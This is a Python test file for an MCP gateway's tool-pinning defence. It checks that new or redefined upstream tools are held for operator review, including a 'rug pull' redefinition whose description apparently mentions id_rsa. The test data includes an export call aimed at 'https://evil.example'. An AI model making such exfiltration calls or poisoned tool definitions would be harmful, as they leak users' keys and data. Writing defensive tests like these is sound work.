"""Tool pinning end to end: a real gateway in front of a notes upstream whose tool list changes
while it runs (tests/upstreams/notes_server.py ``/control/...``), real MCP clients, SQLite."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from sqlalchemy import Engine

from gateway.pins import PinNotFound, PinStore
from tests.gateway.approvals.harness import eventually
from tests.gateway.harness import (
    REPO,
    Gateway,
    NotesUpstream,
    connect,
    rows,
    run_gateway,
    run_notes_upstream,
    text_of,
    upstreams_yaml,
)

pytestmark = pytest.mark.anyio

POLICY = """
identities:
  writer-agent: {roles: [writer]}
  alice: {roles: [approver]}
  ops: {roles: [admin]}
roles:
  writer: {grants: ["notes__*", "time__*"]}
  approver: {}
  admin: {}
rules:
  - id: approve-publish
    effect: approve
    tools: [notes__add_note]
    when: 'args.title.startsWith("publish")'
    reason: publishing needs a human
    approvers: [approver]
"""
IDENTITIES = ["writer-agent", "alice", "ops"]
FAST = {
    "WARDEN_UPSTREAM_PROBE_INTERVAL_S": "0.3",
    "WARDEN_APPROVAL_POLL_S": "0.1",
    "WARDEN_APPROVAL_HOLD_S": "30",
    "WARDEN_TOOL_PINS_POLL_S": "0.2",
}


@pytest.fixture
def stack(tmp_path: Path) -> Iterator[tuple[Gateway, NotesUpstream]]:
    """A fresh notes upstream per test (tests change its tools) and a gateway on a fresh database."""
    policy_dir = tmp_path / "policies"
    policy_dir.mkdir()
    (policy_dir / "policy.yaml").write_text(POLICY)
    with (
        run_notes_upstream(tmp_path) as notes,
        run_gateway(tmp_path, policy_dir, upstreams_yaml(notes.url), IDENTITIES, **FAST) as gw,
    ):
        yield gw, notes


def change(notes: NotesUpstream, action: str) -> None:
    httpx.post(f"http://127.0.0.1:{notes.port}/control/{action}").raise_for_status()


def auth(gw: Gateway, who: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {gw.keys[who]}"}


async def listed(gw: Gateway, who: str = "writer-agent") -> dict[str, Any]:
    async with connect(gw, who) as client:
        return {tool.name: tool for tool in (await client.list_tools()).tools}


async def pending_pin(gw: Gateway, tool: str) -> dict[str, Any]:
    async def probe() -> dict[str, Any] | None:
        found = rows(gw, "SELECT * FROM tool_pins WHERE tool = :t AND state = 'pending'", t=tool)
        return found[0] if found else None

    return await eventually(probe, 20, f"a pending pin for {tool}")


def warden_tools(gw: Gateway, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "WARDEN_DATABASE_URL": gw.database_url, "WARDEN_POLICY_DIR": str(gw.policy_dir)}
    return subprocess.run(
        [sys.executable, "-m", "warden", "tools", *args],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


async def test_first_start_pins_every_tool_seen(stack: tuple[Gateway, NotesUpstream]) -> None:
    gw, _ = stack
    pins = rows(gw, "SELECT server, tool, state, kind FROM tool_pins ORDER BY server, tool")
    assert {(p["server"], p["tool"]) for p in pins} >= {("notes", "add_note"), ("time", "get_current_time")}
    assert {(p["state"], p["kind"]) for p in pins} == {("accepted", "first")}
    audited = rows(gw, "SELECT * FROM audit_events WHERE method = 'tools/pin'")
    assert len(audited) == len(pins) and {a["identity"] for a in audited} == {"warden"}
    assert "notes__add_note" in await listed(gw)


async def test_first_sight_can_require_acceptance(tmp_path: Path, notes: NotesUpstream) -> None:
    policy_dir = tmp_path / "policies"
    policy_dir.mkdir()
    (policy_dir / "policy.yaml").write_text(POLICY)
    with run_gateway(
        tmp_path, policy_dir, upstreams_yaml(notes.url), IDENTITIES, **FAST, WARDEN_TOOL_PINS_TRUST_FIRST_SIGHT="false"
    ) as gw:
        assert await listed(gw) == {}
        async with connect(gw, "writer-agent") as client:
            refused = await client.call_tool("notes__list_notes", {})
        assert refused.is_error and text_of(refused).startswith("unknown tool: 'notes__list_notes'")
        pin = (await pending_pin(gw, "list_notes"))["id"]
        async with httpx.AsyncClient() as http:
            r = await http.post(f"{gw.url}/admin/tools/{pin}/accept", headers=auth(gw, "ops"))
        assert r.status_code == 200 and r.json()["state"] == "accepted"
        assert list(await listed(gw)) == ["notes__list_notes"]  # accepted at once by the API: no poll wait


async def test_a_new_tool_is_hidden_until_an_operator_accepts_it(stack: tuple[Gateway, NotesUpstream]) -> None:
    gw, notes = stack
    change(notes, "add-tool")
    pin = await pending_pin(gw, "export_notes")
    assert pin["kind"] == "new"
    assert "notes__export_notes" not in await listed(gw)
    async with connect(gw, "writer-agent") as client:
        hidden = await client.call_tool("notes__export_notes", {"destination": "https://evil.example"})
        unknown = await client.call_tool("notes__never_was", {"destination": "x"})
    assert hidden.is_error and text_of(hidden) == text_of(unknown).replace("never_was", "export_notes")
    audit = rows(gw, "SELECT * FROM audit_events WHERE method = 'tools/pin' AND tool = 'export_notes'")
    assert [(a["effect"], a["identity"]) for a in audit] == [("approve", "warden")]
    shown = await anyio.to_thread.run_sync(warden_tools, gw, "pending", "--json")
    assert shown.returncode == 0 and [p["tool"] for p in json.loads(shown.stdout)] == ["export_notes"], shown.stderr
    refused = await anyio.to_thread.run_sync(warden_tools, gw, "accept", str(pin["id"]), "--as", "writer-agent")
    assert refused.returncode == 1 and "admin" in refused.stderr
    async with httpx.AsyncClient() as http:
        forbidden = await http.post(f"{gw.url}/admin/tools/{pin['id']}/accept", headers=auth(gw, "writer-agent"))
    assert forbidden.status_code == 403
    done = await anyio.to_thread.run_sync(warden_tools, gw, "accept", str(pin["id"]), "--as", "ops")
    assert done.returncode == 0 and "accepted by ops" in done.stdout, done.stderr

    async def visible() -> bool | None:
        return True if "notes__export_notes" in await listed(gw) else None

    await eventually(visible, 20, "the accepted tool to be listed (the gateway polls the CLI's decision)")
    async with connect(gw, "writer-agent") as client:
        ran = await client.call_tool("notes__export_notes", {"destination": "/tmp/x"})
    assert not ran.is_error, text_of(ran)
    decided = rows(gw, "SELECT * FROM audit_events WHERE method = 'tools/accept'")
    assert [(a["identity"], a["effect"], a["tool"]) for a in decided] == [("ops", "allow", "export_notes")]


async def test_an_approval_does_not_run_a_changed_definition(stack: tuple[Gateway, NotesUpstream]) -> None:
    gw, notes = stack
    box: dict[str, Any] = {}

    async def agent() -> None:
        async with connect(gw, "writer-agent") as client:
            box["result"] = await client.call_tool("notes__add_note", {"title": "publish rug", "body": "b"})

    async with anyio.create_task_group() as tg:
        tg.start_soon(agent)

        async def approval() -> dict[str, Any] | None:
            found = rows(gw, "SELECT * FROM approvals WHERE state = 'pending'")
            return found[0] if found else None

        held = await eventually(approval, 20, "the held call's approval")
        change(notes, "redefine")  # the rug pull: description and schema change under the approval
        pin = await pending_pin(gw, "add_note")
        assert pin["kind"] == "changed" and pin["hash"] != held["tool_hash"]
        async with httpx.AsyncClient() as http:
            r = await http.post(
                f"{gw.url}/approvals/{held['id']}/approve", json={"reason": "ok"}, headers=auth(gw, "alice")
            )
        assert r.status_code == 200
    result = box["result"]
    assert result.is_error and "definition of notes__add_note changed" in text_of(result), text_of(result)
    outcome = rows(gw, "SELECT * FROM audit_events WHERE approval_id = :id AND phase = 'outcome'", id=held["id"])
    assert [(o["outcome"], json.loads(o["rule_ids"])) for o in outcome] == [("denied", ["tool-pin"])]
    async with connect(gw, "writer-agent") as client:
        notes_now = await client.call_tool("notes__list_notes", {})
    assert "publish rug" not in text_of(notes_now)
    assert "notes__add_note" not in await listed(gw)  # the changed definition waits for review
    async with httpx.AsyncClient() as http:
        pending = await http.get(f"{gw.url}/admin/tools/pending", headers=auth(gw, "ops"))
        assert [p["tool"] for p in pending.json()] == ["add_note"]
        assert "id_rsa" in pending.json()[0]["definition"]["description"]  # operators review what changed
        accepted = await http.post(f"{gw.url}/admin/tools/{pin['id']}/accept", headers=auth(gw, "ops"))
    assert accepted.status_code == 200
    assert "cc" in (await listed(gw))["notes__add_note"].input_schema["properties"]


def test_pin_store_keeps_one_accepted_definition_per_tool(engine: Engine) -> None:
    store = PinStore(engine)
    [first] = store.observe("notes", {"echo": ("h1", "{}")}, trust_first=True)
    assert (first.pin.state, first.pin.kind) == ("accepted", "first")
    assert store.observe("notes", {"echo": ("h1", "{}")}, trust_first=True) == []  # seen before: nothing new
    found = store.observe("notes", {"echo": ("h2", "{}"), "export": ("x1", "{}")}, trust_first=True)
    assert sorted((f.pin.tool, f.pin.state, f.pin.kind) for f in found) == [
        ("echo", "pending", "changed"),
        ("export", "pending", "new"),  # a known server's new tool is not trusted at first sight
    ]
    assert store.accepted() == {("notes", "echo"): "h1"}
    by_tool = {f.pin.tool: f.pin.id for f in found}
    assert store.decide(by_tool["echo"], "accept", "ops").state == "accepted"
    assert store.accepted() == {("notes", "echo"): "h2"}  # h1 superseded, never two accepted
    assert [(p.hash, p.state) for p in store.accepted_definitions().values()] == [("h2", "accepted")]
    [reverted] = store.observe("notes", {"echo": ("h1", "{}")}, trust_first=True)
    assert (reverted.pin.hash, reverted.pin.state) == ("h1", "pending")  # flipping back is a change too
    assert store.decide(by_tool["export"], "reject", "ops").state == "rejected"
    assert store.observe("notes", {"export": ("x1", "{}")}, trust_first=True) == []
    assert ("notes", "export") not in store.accepted()
    with pytest.raises(PinNotFound):
        store.decide(by_tool["export"], "accept", "ops")  # decided already
    assert store.observe("other", {"t": ("o1", "{}")}, trust_first=False)[0].pin.state == "pending"
